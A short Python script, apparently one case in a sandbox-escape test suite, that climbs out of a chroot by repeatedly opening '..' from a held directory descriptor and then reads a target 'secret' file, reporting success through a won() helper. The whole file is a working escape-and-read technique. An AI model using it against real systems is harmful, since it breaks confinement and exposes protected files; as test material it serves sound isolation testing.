"""Climb out of the root by dots, from a directory that is held open."""

import os

from tools import TARGETS, won

fd = os.open(".", os.O_RDONLY)
for _ in range(60):
    fd = os.open("..", os.O_RDONLY, dir_fd=fd)
fd = os.open(TARGETS["secret"].lstrip("/"), os.O_RDONLY, dir_fd=fd)
won(os.read(fd, 100))
